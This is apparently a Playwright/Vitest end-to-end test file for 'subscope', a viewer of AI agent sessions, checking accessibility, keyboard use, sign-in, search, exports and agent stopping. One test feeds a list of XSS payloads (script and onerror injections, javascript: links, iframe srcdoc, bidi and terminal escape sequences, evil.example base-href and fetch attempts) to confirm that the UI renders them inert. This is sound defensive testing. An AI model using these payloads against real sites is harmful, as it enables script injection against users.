// Every view: accessible, usable by keyboard, inert for hostile texts, and small.
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { gzipSync } from "node:zlib";
import { createRequire } from "node:module";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { beforeAll, expect, it } from "vitest";
import type { Hits, Tree } from "../src/model";
import { KEYS } from "../src/lib/keys";
import { totals } from "../src/lib/picture";
import { cleanUp, freePort, isQuiet, look, Recording, row, type Seen, Server } from "./harness";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const recording = new Recording("c-nested");
let server: Server;
let seen: Seen;

beforeAll(async () => {
  server = await Server.over("c-nested", "b-parallel", "e-retries", "l-hostile-output");
});
cleanUp("all tests");

interface Finding {
  id: string;
  impact: string | null;
  nodes: { html: string; failureSummary?: string }[];
}

async function findings({ page }: Seen): Promise<string[]> {
  await page.evaluate(axe);
  const found = await page.evaluate(
    async () => (await (globalThis as unknown as { axe: { run: () => Promise<{ violations: Finding[] }> } }).axe.run()).violations,
  );
  const serious = found.filter((one) => one.impact === "serious" || one.impact === "critical");
  return serious.map((one) => `${one.id}: ${one.nodes[0]?.html} ${one.nodes[0]?.failureSummary ?? ""}`);
}

const VIEWS = [
  ["home", "/"],
  ["waterfall", `/s/${recording.session}`],
  ["feed", `/s/${recording.session}?view=feed`],
  ["summary", `/s/${recording.session}?view=summary`],
  ["files", `/s/${new Recording("b-parallel").session}?view=files`],
  ["conversation", `/s/${recording.session}?view=conversation`],
  ["agent", `/s/${recording.session}/a/root`],
  ["search", "/search?q=the"],
  ["stats", "/stats?days=all"],
  ["compare", `/compare?a=${recording.session}&b=${new Recording("b-parallel").session}`],
  ["iterations", "/iterations"],
  ["sending", "/sending"],
  ["unknown", "/no/such/place"],
  ["nothing", "/s/none"],
] as const;

it.each(VIEWS.flatMap(([name, path]) => [["dark", name, path] as const, ["light", name, path] as const]))(
  "axe finds nothing serious in %s %s",
  async (colorScheme, _, path) => {
    for (const width of [390, 1280]) {
      seen = await look(server, path, { colorScheme, viewport: { width, height: 800 }, reducedMotion: "reduce" });
      await seen.page.waitForSelector('[data-testid="status-bar"][data-state="live"]');
      await seen.page.waitForTimeout(400);
      expect(await findings(seen)).toEqual([]);
      // Nothing is wider than the screen.
      expect(await seen.page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
      // A session that does not exist is requested as well.
      seen.wrong = seen.wrong.filter((words) => !(["/s/none", "/no/such/place"].includes(path) && words.includes("404")));
      isQuiet(seen);
      await seen.context.close();
    }
  },
);

it("is used by keyboard alone", async () => {
  seen = await look(server);
  const { page } = seen;
  await page.waitForSelector('[data-testid="session-card"]');
  await page.keyboard.press("?");
  const dialog = page.getByRole("dialog");
  for (const { does } of KEYS) await dialog.getByText(does, { exact: true }).waitFor();
  await page.keyboard.press("Escape");
  await dialog.waitFor({ state: "hidden" });
  // The timeline may arrive late: zooming works without it.
  await page.route("**/timeline*", async (route) => {
    await new Promise((resolve) => setTimeout(resolve, 3000));
    await route.continue();
  });
  // The first row is a session; once it is unfolded, the next one is its main agent.
  await page.keyboard.press("j");
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("j");
  await page.keyboard.press("Enter");
  await page.waitForSelector('[data-testid="agent-row"] button[aria-expanded="true"]');
  await page.keyboard.press("k");
  await page.keyboard.press("Enter");
  await page.waitForURL("**/s/*");
  await page.keyboard.press("2");
  await page.waitForURL("**view=feed");
  await page.keyboard.press("1");
  await page.keyboard.press("+");
  await page.waitForURL("**z=*");
  await page.keyboard.press("0");
  await expect.poll(() => page.url()).not.toContain("z=");
  await page.keyboard.press("Escape");
  await page.waitForURL(`${server.url}/`);
  await page.keyboard.press("/");
  await page.keyboard.type("checkout");
  await page.waitForURL("**/search?q=checkout");
  isQuiet(seen);
});

it("lets a browser in for a code, where callers show a token", async () => {
  const guarded = new Server(await freePort());
  try {
    guarded.put("b-parallel");
    const file = join(guarded.folder, "token");
    await guarded.run("--token-file", file);
    seen = await look(guarded);
    const { page, context } = seen;
    await page.getByRole("heading", { name: "This browser is not signed in" }).waitFor();
    expect(await findings(seen)).toEqual([]);
    const headers = { authorization: `Bearer ${readFileSync(file, "utf8").trim()}`, "x-subscope": "1", "content-type": "application/json" };
    const code = async (): Promise<string> => {
      const answer = await fetch(`${guarded.url}/api/v1/codes`, { method: "POST", headers, body: "{}" });
      return ((await answer.json()) as { url: string }).url;
    };
    await page.getByRole("textbox", { name: "the address" }).fill("0123");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("alert").filter({ hasText: "used" }).waitFor();
    await page.getByRole("textbox", { name: "the address" }).fill(await code());
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.waitForSelector('[data-testid="agent-row"]');
    // Another browser signs in by the address alone, and the code is removed from the address.
    await context.clearCookies();
    await page.goto("about:blank");
    await page.goto(await code());
    await page.waitForSelector('[data-testid="agent-row"]');
    expect(page.url()).toBe(`${guarded.url}/`);
    expect((await context.cookies()).map(({ httpOnly, sameSite }) => [httpOnly, sameSite])).toEqual([[true, "Strict"]]);
    await page.reload();
    await page.waitForSelector('[data-testid="agent-row"]');
    expect(seen.beyond).toEqual([]);
  } finally {
    await guarded.stop();
  }
});

it("finds words by agent, and leads to the agent", async () => {
  await expect.poll(async () => (await fetch(`${server.url}/api/v1/search?q=checkout`)).status, { timeout: 30_000 }).toBe(200);
  await expect.poll(async () => (await server.get<{ hits: unknown[] }>("/api/v1/search?q=checkout")).hits.length, { timeout: 30_000 }).toBeGreaterThan(0);
  seen = await look(server, "/search?q=checkout");
  const { page } = seen;
  const first = page.locator(".search h3 a").first();
  await first.waitFor();
  const hits = await server.get<Hits>("/api/v1/search?q=checkout&limit=50");
  expect(await page.locator(".search .count").textContent()).toContain(`${hits.total} passages`);
  // The session is named by its title; code keeps its lines.
  expect(await page.locator(".search h3").first().textContent()).toContain(hits.hits[0]?.session_title?.slice(0, 40));
  // A choice narrows it and is in the address, without a history entry.
  const tool = hits.facets.tools[0];
  const chip = page.getByRole("group", { name: "narrow the search" }).getByRole("button", { name: new RegExp(`^${tool?.name} ?${tool?.hits}$`) });
  await chip.click();
  await page.waitForURL((url) => url.searchParams.get("tool") === tool?.name);
  await page.reload();
  await page.getByRole("button", { pressed: true, name: tool?.name ?? "" }).waitFor();
  await page.locator('[data-testid="hit"] .tool').first().waitFor();
  expect(new Set(await page.locator('[data-testid="hit"] .tool').allTextContents())).toEqual(new Set([tool?.name]));
  await page.getByRole("button", { pressed: true, name: tool?.name ?? "" }).click();
  await page.waitForURL((url) => !url.searchParams.has("tool"));
  expect(await seen.page.locator("mark").first().textContent()).toMatch(/checkout/i);
  await first.click();
  await seen.page.waitForSelector("aside .top > h2");
  // A search is one history entry: Escape goes back to what was shown before it.
  const before = seen.page.url();
  await seen.page.keyboard.press("/");
  await seen.page.keyboard.type("checkout");
  await seen.page.keyboard.press("Enter");
  await seen.page.waitForURL("**/search?q=checkout");
  await first.waitFor();
  await seen.page.keyboard.press("Escape");
  await seen.page.keyboard.press("Escape");
  await seen.page.waitForURL(before);
  isQuiet(seen);
});

it("shows that it looks while it looks, and brings more hits as one scrolls", async () => {
  const { total, hits } = await server.get<Hits>("/api/v1/search?q=the&limit=1000");
  expect(hits.length).toBeGreaterThan(50);
  seen = await look(server, "/");
  const { page } = seen;
  await page.waitForSelector('[data-testid="session-card"]');
  const answers: (() => void)[] = [];
  await page.route("**/api/v1/search*", async (route) => {
    await new Promise<void>((resolve) => answers.push(resolve));
    await route.continue();
  });
  await page.keyboard.press("/");
  await page.keyboard.type("the");
  await page.getByTestId("skeleton").waitFor();
  await expect.poll(() => answers.length).toBe(1);
  expect(await page.locator(".empty").count()).toBe(0);
  answers[0]?.();
  await page.getByTestId("hit").first().waitFor();
  expect(await page.getByTestId("skeleton").count()).toBe(0);
  expect(await page.locator(".search .count").textContent()).toContain(`50 of ${new Intl.NumberFormat("en-US").format(total)} passages`);
  await page.unroute("**/api/v1/search*");
  await expect
    .poll(async () => {
      await page.locator(".search .scroller").evaluate((list) => (list.scrollTop = list.scrollHeight));
      return page.locator(".search .count").textContent();
    })
    .toContain(hits.length < total ? `${hits.length} of` : `${total} passages`);
  isQuiet(seen);
});

it("shows moments of before as they were", async () => {
  const at = recording.first + Math.round(((recording.lines.at(-1)?.at ?? 0) - recording.first) / 2);
  const then = await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree?at=${at}`);
  const now = await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`);
  expect(then.agents.map((agent) => agent.status)).not.toEqual(now.agents.map((agent) => agent.status));
  seen = await look(server, `/s/${recording.session}?t=${at}`);
  for (const agent of then.agents) await seen.page.waitForSelector(`${row(agent.id)}[data-status="${agent.status}"]`);
  expect(await seen.page.locator('[data-testid="agent-row"]').count()).toBe(then.agents.length);
  await seen.page.getByRole("button", { name: "to the end" }).click();
  for (const agent of now.agents) await seen.page.waitForSelector(`${row(agent.id)}[data-status="${agent.status}"]`);
  isQuiet(seen);
});

it("saves what it shows: trace, table, picture, and a page that needs nobody", async () => {
  seen = await look(server, `/s/${recording.session}`);
  const { page, context } = seen;
  await page.waitForSelector('[data-testid="agent-row"]');
  const saved = async (name: string): Promise<string> => {
    await page.locator("summary", { hasText: "Export" }).click();
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByText(name).click()]);
    await page.locator("summary", { hasText: "Export" }).click();
    return (await download.path()) ?? "";
  };
  expect(JSON.parse(readFileSync(await saved("Trace (JSON)"), "utf8"))).toHaveProperty("hierarchy");
  expect(readFileSync(await saved("Agents (CSV)"), "utf8").split("\r\n").length).toBeGreaterThan(4);
  // A Perfetto trace is a protobuf message; strings are in it unchanged.
  const perfetto = readFileSync(await saved("Timeline for the Perfetto UI"));
  expect(perfetto[0]).toBe(0x0a);
  const [, some] = (await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`)).agents;
  expect(perfetto.includes(some?.description ?? "?")).toBe(true);
  const spans = JSON.parse(readFileSync(await saved("Spans (OpenTelemetry"), "utf8").split("\n")[0] ?? "");
  expect(spans.resourceSpans[0].scopeSpans[0].spans.length).toBeGreaterThan(3);
  const picture = readFileSync(await saved("Waterfall (SVG)"), "utf8");
  expect(picture).toMatch(/^<svg /);
  expect(picture.match(/<rect/g)?.length).toBeGreaterThan(20);
  const { summary } = await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`);
  expect(picture).toContain(`>${totals(summary)}</text>`);
  expect(totals(summary)).toMatch(/^\d+ agents · .*s · \$[\d.]+ · [\d.]+× parallel · subscope$/);
  // Nothing in it overlaps or is beyond its edge.
  const overlapping = await page.evaluate((drawn) => {
    const place = document.createElement("div");
    document.body.append(place);
    place.innerHTML = drawn;
    const image = place.querySelector("svg");
    const box = image?.getBoundingClientRect();
    const texts = [...(image?.querySelectorAll("text") ?? [])].map((text) => ({ words: text.textContent, box: text.getBoundingClientRect() }));
    place.remove();
    const isOver = (one: DOMRect, other: DOMRect): boolean => Math.min(one.right, other.right) - Math.max(one.left, other.left) > 0.5 && Math.min(one.bottom, other.bottom) - Math.max(one.top, other.top) > 0.5;
    return texts.flatMap((one, at) => [
      ...(box && one.box.right > box.right + 0.5 ? [`${one.words} is beyond the edge`] : []),
      ...texts.slice(at + 1).flatMap((other) => (isOver(one.box, other.box) ? [`${one.words} is over ${other.words}`] : [])),
    ]);
  }, picture);
  expect(overlapping).toEqual([]);
  const pixels = readFileSync(await saved("Waterfall (PNG)"));
  expect(pixels.subarray(1, 4).toString()).toBe("PNG");
  expect(pixels.readUInt32BE(16)).toBe(2 * Number(/width="(\d+)"/.exec(picture)?.[1]));
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.locator("summary", { hasText: "Export" }).click();
  await page.getByText("Copy the waterfall as a picture").click();
  await page.getByText("copied", { exact: true }).waitFor();
  expect(await page.evaluate(() => navigator.clipboard.read().then((items) => items.flatMap(({ types }) => types)))).toEqual(["image/png"]);
  await page.locator("summary", { hasText: "Export" }).click();
  const file = await saved("Page in one file");
  const alone = await context.newPage();
  const asked: string[] = [];
  const wrong: string[] = [];
  alone.on("request", (request) => asked.push(request.url()));
  alone.on("console", (message) => message.type() === "error" && wrong.push(message.text()));
  alone.on("pageerror", (error) => wrong.push(String(error)));
  const copy = `${file}.html`;
  process.getBuiltinModule("node:fs").copyFileSync(file, copy);
  await alone.goto(`file://${copy}`);
  const { agents } = await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`);
  for (const agent of agents) await alone.waitForSelector(row(agent.id));
  await alone.locator(row(agents[1]?.id ?? "")).locator("a").click();
  await alone.waitForSelector('aside [data-testid="tool-row"]');
  expect(asked).toEqual([`file://${copy}`]);
  expect(wrong).toEqual([]);
  isQuiet(seen);
});

it("shows every view of a saved page that is opened from a disk", async () => {
  const answer = await fetch(`${server.url}/api/v1/sessions/${recording.session}/export?as=html`);
  // A name that has to be escaped in an address.
  const file = join(server.folder, "saved #1 ü%20.html");
  writeFileSync(file, await answer.text());
  const address = pathToFileURL(file).href;
  const { agents } = await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`);
  const [, agent] = agents;
  seen = await look(server);
  const page = await seen.context.newPage();
  const asked: string[] = [];
  const wrong: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => message.type() === "error" && wrong.push(message.text()));
  page.on("pageerror", (error) => wrong.push(String(error)));
  await page.goto(address);
  const isTree = (): Promise<unknown> => Promise.all(agents.map(({ id }) => page.waitForSelector(row(id))));
  const view = (name: string): Promise<void> => page.getByRole("navigation", { name: "views" }).getByText(name, { exact: true }).click();
  const names = await page.getByRole("navigation", { name: "views" }).getByRole("link").allTextContents();
  expect(names.length).toBe(5);
  const [tree = "", feed = "", summary = ""] = names;
  await isTree();
  await page.waitForSelector(".waterfall .lanes canvas");
  // Feed: every event, each with a link to its agent.
  await view(feed);
  await page.waitForSelector(".feed .line");
  expect(await page.locator(".feed .count").textContent()).toMatch(/^[1-9]\d* events/);
  await page.locator(`.feed a.who`).first().click();
  await page.waitForSelector("aside .top > h2");
  // Summary: figures, and a link to each agent.
  await page.goBack();
  await page.waitForSelector(".feed .line");
  await view(summary);
  await page.waitForSelector(".figures");
  await page.locator(".summary table a").nth(1).click();
  await page.waitForSelector('aside [data-testid="tool-row"], aside .story');
  await page.getByRole("button", { name: "close the conversation" }).click();
  // By keyboard, and by the name of the program.
  for (const [key, selector] of [["2", ".feed .line"], ["3", ".figures"], ["5", ".conversation .line"], ["1", row("root")], ["h", row("root")], ["/", row("root")]] as const) {
    await page.keyboard.press(key);
    await page.waitForSelector(selector);
  }
  await view(feed);
  await page.getByRole("link", { name: "subscope, start" }).click();
  await isTree();
  await view(summary);
  await view(tree);
  await isTree();
  // The address has the state of the view, which is restored when the file is opened again.
  await page.locator(row(agent?.id ?? "")).locator("a").click();
  await page.waitForSelector("aside .top > h2");
  const heading = await page.locator("aside .top > h2").textContent();
  await page.reload();
  await page.waitForSelector("aside .top > h2");
  expect(await page.locator("aside .top > h2").textContent()).toBe(heading);
  expect(page.url().startsWith(`${address}#/s/`)).toBe(true);
  // Features that need a hub are not offered.
  expect(await page.getByRole("search").count()).toBe(0);
  expect(new Set(asked.map((url) => url.split("#")[0]))).toEqual(new Set([address]));
  expect(asked.length).toBe(2);
  const links = await page.locator("a[href]").evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href.split("#")[0]));
  expect(new Set(links)).toEqual(new Set([address]));
  expect(wrong).toEqual([]);
});

it("shows nothing of an agent that was closed when another is opened", async () => {
  const { agents } = await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`);
  seen = await look(server, `/s/${recording.session}/a/root`);
  const { page } = seen;
  await page.waitForSelector("aside .top > h2");
  const headings = await page.evaluate(async (other) => {
    const found = new Set<string>();
    const click = (selector: string): void => document.querySelector<HTMLElement>(selector)?.click();
    const note = async (): Promise<void> => {
      await new Promise((resolve) => setTimeout(resolve));
      found.add(document.querySelector("aside .top > h2")?.textContent ?? "none");
    };
    // Both clicks come before the next frame.
    click('aside [aria-label="close the conversation"]');
    await note();
    click(other);
    for (let at = 0; at < 50; at += 1) await note();
    return [...found];
  }, `${row(agents[1]?.id ?? "")} a`);
  expect(headings).toEqual(["none", expect.stringContaining("lead")]);
  isQuiet(seen);
});

it("asks before it stops an agent, and says that it is stopping", async () => {
  const own = await Server.start();
  const hook = async (body: object): Promise<void> => {
    const headers = { "content-type": "application/json" };
    const answer = await fetch(`${own.url}/hooks/claude`, { method: "POST", headers, body: JSON.stringify(body) });
    expect(answer.status).toBe(200);
  };
  const base = { session_id: "s", transcript_path: "/x.jsonl", cwd: "/x", prompt_id: "p" };
  await hook({ ...base, hook_event_name: "UserPromptSubmit", prompt: "do it" });
  await hook({ ...base, hook_event_name: "SubagentStart", agent_id: "a1", agent_type: "Explore" });
  await hook({ ...base, hook_event_name: "PreToolUse", agent_id: "a1", tool_name: "Bash", tool_use_id: "t1", tool_input: { command: "sleep 9" } });
  seen = await look(own, "/s/s/a/a1");
  const { page } = seen;
  await page.getByRole("button", { name: "Stop…" }).click();
  await page.getByRole("button", { name: "Keep it running" }).click();
  const flags = async (): Promise<string[]> => (await own.get<Tree>("/api/v1/sessions/s/tree")).agents.flatMap((agent) => agent.flags);
  expect(await flags()).not.toContain("stopping");
  await page.getByRole("button", { name: "Stop…" }).click();
  await page.getByRole("button", { name: "Stop it" }).click();
  await page.locator(row("a1")).getByText("stopping").waitFor();
  expect(await flags()).toContain("stopping");
  isQuiet(seen);
  await own.stop();
});

it("stops the agent that was chosen last, however fast the keys follow", async () => {
  const own = await Server.start();
  const base = { session_id: "s", transcript_path: "/x.jsonl", cwd: "/x", prompt_id: "p" };
  await own.hook({ ...base, hook_event_name: "UserPromptSubmit", prompt: "do it" });
  for (const agent_id of ["a1", "a2"]) await own.hook({ ...base, hook_event_name: "SubagentStart", agent_id, agent_type: `type-${agent_id}` });
  seen = await look(own, "/s/s/a/a1");
  const { page } = seen;
  await page.getByRole("heading", { name: "type-a1" }).waitFor();
  await page.locator(row("a1")).locator("a").focus();
  // Both keys come before the next frame.
  await page.evaluate(() => {
    for (const key of ["j", "s"]) document.activeElement?.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
  });
  await page.getByRole("dialog").getByText("Stop type-a2?").waitFor();
  await page.getByRole("button", { name: "Stop it" }).click();
  await page.locator(row("a2")).getByText("stopping").waitFor();
  const { agents } = await own.get<Tree>("/api/v1/sessions/s/tree");
  expect(agents.filter(({ flags }) => flags.includes("stopping")).map(({ id }) => id)).toEqual(["a2"]);
  isQuiet(seen);
  await own.stop();
});

const HIDDEN = /[\u202a-\u202e\u2066-\u2069\u200b\u0000-\u0008\u000e-\u001f\u007f-\u009f]/;

it("makes whatever agents write inert", async () => {
  const own = await Server.start();
  const hostile = [
    "<script>globalThis.hacked = 1</script><img src=x onerror='globalThis.hacked = 2'>",
    "[link](javascript:globalThis.hacked=3) <a href='javascript:globalThis.hacked=4'>x</a>",
    "safe\u202egpj.exe \u2066hidden\u2069 zero\u200bwidth \u0007bell \u007f\u009b2J \u001b[2J\u001b]8;;javascript:1\u0007",
    "&#27;[2J &#127; &#x202e; **&#x200b;** [x](https://docs.rs/&#x202e;)",
    "<iframe srcdoc='<script>parent.hacked=5</script>'></iframe><svg onload='globalThis.hacked=6'/>",
    "![x](https://evil.example/x.png) <style>*{display:none}</style>",
    "</script><!-- <base href='https://evil.example/'>",
    "y".repeat(1_000_000),
  ];
  const post = async (event: object): Promise<void> => {
    const headers = { "content-type": "application/json" };
    const answer = await fetch(`${own.url}/subagent-events`, { method: "POST", headers, body: JSON.stringify(event) });
    expect(answer.status).toBe(200);
  };
  const at = Date.now();
  for (const [number, text] of hostile.entries()) {
    const base = { subagentName: text.slice(0, 2000), subagentRunId: `r${number}`, sessionId: "hostile", timestamp: at + number };
    await post({ ...base, type: "subagent_start", payload: text });
    await post({ ...base, type: "thought_trace", payload: text });
    await post({ ...base, type: "tool_call", toolName: text.slice(0, 500), toolCallId: `t${number}`, payload: { command: text } });
    await post({ ...base, type: "tool_result", toolName: text.slice(0, 500), toolCallId: `t${number}`, payload: text });
    await post({ ...base, type: "subagent_end", payload: text });
  }
  const views = ["/", "/s/hostile", "/s/hostile?view=feed", "/s/hostile?view=summary", "/stats", "/compare?a=hostile&b=hostile", "/search?q=safe", ...hostile.map((_, number) => `/s/hostile/a/r${number}`)];
  for (const view of views) {
    seen = await look(own, view);
    const { page } = seen;
    page.on("dialog", () => seen?.wrong.push("a dialog"));
    await page.waitForSelector('[data-testid="agent-row"], .feed .line, .figures, [data-testid="pair"], [data-testid="hit"]');
    await page.waitForTimeout(300);
    // Open everything that can be opened.
    const folded = page.locator('[aria-expanded="false"]:visible').first();
    for (let step = 0; step < 60 && (await folded.count()) > 0; step++) await folded.click({ timeout: 2000 }).catch(() => null);
    const text = await page.evaluate(() => document.body.textContent ?? "");
    expect(HIDDEN.exec(text), view).toBeNull();
    expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked), view).toBeUndefined();
    expect(await page.locator("iframe, #app img, #app style, base, #app script").count(), view).toBe(0);
    const links = await page.locator("a[href]").evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).protocol));
    expect(links.filter((protocol) => !["http:", "https:"].includes(protocol)), view).toEqual([]);
    isQuiet(seen);
    await seen.context.close();
  }
  await own.stop();
});

it("has a policy that stops what would get in all the same", async () => {
  seen = await look(server);
  const { page, wrong } = seen;
  await page.waitForSelector('[data-testid="session-card"]');
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "globalThis.hacked = 1";
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.hacked = 2'>");
    // The policy does not apply to code that a debugger evaluates, only to what the page itself starts later.
    setTimeout("globalThis.hacked = 3", 0);
  });
  const leaks = await page.evaluate(() => fetch("https://evil.example/").then(() => "sent", () => "stopped"));
  await page.waitForTimeout(200);
  expect(leaks).toBe("stopped");
  expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined();
  expect(wrong.some((words) => words.includes("Content Security Policy"))).toBe(true);
  // The page cannot be embedded in another one.
  const other = createServer((_, answer) => answer.setHeader("content-type", "text/html").end(`<iframe src="${server.url}/"></iframe>`));
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const address = other.address() as { port: number };
  await page.goto(`http://127.0.0.1:${address.port}/`);
  await page.waitForTimeout(300);
  expect(await page.frameLocator("iframe").locator("#app").count()).toBe(0);
  await new Promise((resolve) => other.close(resolve));
});

it("is small: all that is first loaded is at most 200 kB, compressed", async () => {
  const document = await (await fetch(`${server.url}/`)).text();
  const names = [...document.matchAll(/(?:src|href)="([^"]*assets\/[^"]+)"/g)].map((match) => new URL(match[1] ?? "", `${server.url}/`).href);
  expect(names.length).toBeGreaterThan(1);
  let total = gzipSync(document).length;
  for (const name of names) total += gzipSync(Buffer.from(await (await fetch(name)).arrayBuffer())).length;
  console.log(`first load: ${Math.round(total / 1000)} kB compressed`);
  expect(total).toBeLessThanOrEqual(200_000);
});
